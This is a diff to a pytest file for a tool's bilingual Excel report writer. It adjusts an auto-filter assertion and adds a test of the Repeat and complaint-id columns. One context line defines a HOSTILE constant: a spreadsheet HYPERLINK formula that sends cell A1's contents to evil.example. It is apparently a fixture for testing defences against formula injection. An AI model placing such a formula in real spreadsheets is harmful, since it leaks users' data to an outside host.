@@ -9,7 +9,7 @@ import pytest
 from checker.config import Config
 from checker.engine import AuditContext, build_rules
 from checker.models import ErrorRecord, Finding, Severity
-from checker.reports.sheetwriter import WorkbookWriter
+from checker.reports.sheetwriter import WorkbookWriter, column_letter
 from checker.reports.xlsx import FINDING_COLUMNS, write_workbook
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -40,7 +40,7 @@ def test_sheets_and_bilingual_headers(tmp_path):
     headers = [c.value for c in ws[1]]
     assert headers[:3] == ["序号 No.", "严重程度 Severity", "代码 Code"] and "状态 Status" in headers
     assert ws.freeze_panes == "A2"
-    assert ws.auto_filter.ref == "A1:Q2"
+    assert ws.auto_filter.ref == f"A1:{column_letter(len(FINDING_COLUMNS))}2"
     assert ws.column_dimensions["H"].width == 50
     assert [c.value for c in wb["Errors"][1]] == ["阶段 Stage", "来源 Source", "位置 Location", "原因 Reason"]
 
@@ -97,3 +97,13 @@ def test_write_is_atomic(tmp_path, monkeypatch):
         write_workbook(target, AuditContext(), [finding()], [])
     assert target.read_bytes() == b"previous workbook"
     assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]
+
+
+def test_repeat_columns(tmp_path):
+    """A finding CP002 escalated says so in its Repeat columns (the complaint sheets are the CP pack's:
+    tests/test_complaints_store.py)."""
+    repeat = finding(code="ST004", sku="A1", repeat_of=["T1", "T2"], escalated_by="CP002")
+    ws = make(tmp_path, [repeat, finding()])["Findings"]
+    assert ws.cell(row=2, column=col("重犯 Repeat")).value == "是 yes"
+    assert ws.cell(row=2, column=col("历史投诉 Complaint ids")).value == "T1, T2"
+    assert ws.cell(row=3, column=col("重犯 Repeat")).value is None
